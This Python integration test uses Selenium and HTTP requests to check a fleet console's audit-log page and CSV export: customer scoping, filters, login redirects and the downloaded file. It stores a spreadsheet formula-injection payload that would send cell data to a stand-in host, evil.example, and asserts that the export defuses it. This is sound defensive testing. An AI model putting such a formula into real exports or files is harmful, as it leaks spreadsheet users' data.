"""The console's Audit page and CSV export in a real headless Chromium, against the
same real ``atoll fleet serve`` process and users as tests/integration/test_console.py:
a viewer reads its customer's actions, filters them, pages through them and downloads
the CSV (formula-like cells quoted); a viewer of another customer, over the page and
the export, never sees them; an admin sees the fleet-wide ones too.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import time
from pathlib import Path

from selenium import webdriver
from selenium.webdriver.common.by import By
from selenium.webdriver.support.ui import Select
from sqlalchemy import select

from atoll.control.db import Database
from atoll.control.models import Customer
from atoll.control.service import record
from tests.integration.test_console import (
    Site,
    _accessible,
    _log_in,
    _request,
    _session,
    _submit,
    browser,  # noqa: F401 (a fixture)
    site,  # noqa: F401 (a fixture)
)

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _rows(driver: webdriver.Chrome) -> list[dict[str, str]]:
    out = []
    for tr in driver.find_elements(By.CSS_SELECTOR, "#audit tbody tr"):
        cells = [c.text for c in tr.find_elements(By.CSS_SELECTOR, "th, td")]
        if len(cells) == 7:
            out.append(dict(zip(("seq", "time", "actor", "action", "customer", "host",
                                 "data"), cells, strict=True)))
    return out


def _store_formula(site: Site) -> None:  # noqa: F811
    """An action whose stored kind starts a formula (as if a value came from a
    client), on acme: chained like any other."""
    db = Database(site.db)
    try:
        with db.write() as s:
            acme = s.scalar(select(Customer.id).where(Customer.name == "acme"))
            record(s, dt.datetime.now(dt.UTC), "operator:importer", FORMULA,
                   {"note": "-2+3"}, customer_id=acme)
    finally:
        db.close()


def _csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_a_viewer_reads_filters_and_exports_its_customers_audit_log(
        site: Site, browser: webdriver.Chrome, tmp_path: Path) -> None:  # noqa: F811
    _store_formula(site)
    _log_in(browser, site, "ann")
    _submit(browser, browser.find_element(By.LINK_TEXT, "Audit"))
    assert browser.find_element(By.TAG_NAME, "h1").text == "Audit"
    _accessible(browser, "audit")
    rows = _rows(browser)
    # acme's actions only: its customer, its enrolment tokens, the stored formula
    assert rows and {r["customer"] for r in rows} == {"acme"}
    assert {r["action"] for r in rows} == {"customer-added", "enrol-token-created", FORMULA}
    seqs = [int(r["seq"]) for r in rows]
    assert seqs == sorted(seqs, reverse=True)  # newest first
    # filter by what and who
    Select(browser.find_element(By.ID, "a-what")).select_by_visible_text("enrol-token-created")
    _submit(browser, browser.find_element(By.CSS_SELECTOR, "form.filters button"))
    rows = _rows(browser)
    assert len(rows) == 3 and {r["action"] for r in rows} == {"enrol-token-created"}
    assert "3 matching" in browser.find_element(By.ID, "matching").text
    browser.find_element(By.ID, "a-who").send_keys("nobody-did-this")
    _submit(browser, browser.find_element(By.CSS_SELECTOR, "form.filters button"))
    assert _rows(browser) == [] and "No action matches." in browser.page_source
    # a time window in the future: nothing; today: everything of acme's
    browser.get(site.url + "/console/audit?since=2099-01-01")
    assert _rows(browser) == []
    today = dt.datetime.now(dt.UTC).date().isoformat()
    browser.get(site.url + f"/console/audit?since={today}&until={today}")
    assert len(_rows(browser)) == 5
    assert browser.find_element(By.ID, "a-since").get_attribute("value") == today
    _accessible(browser)
    # the export: the browser downloads it, with this filter
    downloads = tmp_path / "downloads"
    downloads.mkdir()
    browser.execute_cdp_cmd("Page.setDownloadBehavior",
                            {"behavior": "allow", "downloadPath": str(downloads)})
    browser.get(site.url + "/console/audit")
    browser.find_element(By.ID, "export").click()
    deadline = time.monotonic() + 30
    while not [p for p in downloads.glob("atoll-audit-*.csv")]:
        assert time.monotonic() < deadline, list(downloads.iterdir())
        time.sleep(0.2)
    time.sleep(0.5)
    (path,) = downloads.glob("atoll-audit-*.csv")
    exported = _csv(path.read_text())
    assert len(exported) == 5 and {r["customer"] for r in exported} == {"acme"}
    assert list(exported[0]) == ["seq", "time", "actor", "action", "customer", "host",
                                 "data", "hash"]
    formula = [r for r in exported if r["actor"] == "operator:importer"]
    assert formula[0]["action"] == "'" + FORMULA  # text in a spreadsheet, not a formula
    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r"))
               for r in exported for v in r.values())
    assert all(len(r["hash"]) == 64 for r in exported)


def test_the_audit_log_is_scoped_by_customer(site: Site) -> None:  # noqa: F811
    ben, _ = _session(site, "ben")  # globex's viewer
    status, page, resp = _request(site, "GET", "/console/audit", cookies=ben)
    assert status == 200 and "enrol-token-created" in page
    assert "acme" not in page
    status, page, _ = _request(site, "GET", "/console/audit?customer=acme", cookies=ben)
    assert status == 200 and "No action matches." in page
    status, text, resp = _request(site, "GET", "/console/audit.csv", cookies=ben)
    assert status == 200 and resp.getheader("content-type", "").startswith("text/csv")
    rows = _csv(text)
    assert rows and {r["customer"] for r in rows} == {"globex"}
    status, text, _ = _request(site, "GET", "/console/audit.csv?customer=acme", cookies=ben)
    assert status == 200 and _csv(text) == []
    # the admin of every customer: both, and the fleet-wide actions (console users)
    root, _ = _session(site, "root")
    status, text, _ = _request(site, "GET", "/console/audit.csv", cookies=root)
    rows = _csv(text)
    assert {"acme", "globex", ""} <= {r["customer"] for r in rows}
    assert "console-user-added" in {r["action"] for r in rows}
    # without a session: the login page, not the log
    for path in ("/console/audit", "/console/audit.csv"):
        status, body, resp = _request(site, "GET", path)
        assert status == 303 and resp.getheader("location") == "/console/login"
        assert "enrol-token-created" not in body
    status, page, _ = _request(site, "GET", "/console/audit?since=yesterday", cookies=ben)
    assert status == 422 and "since: a date or time" in page
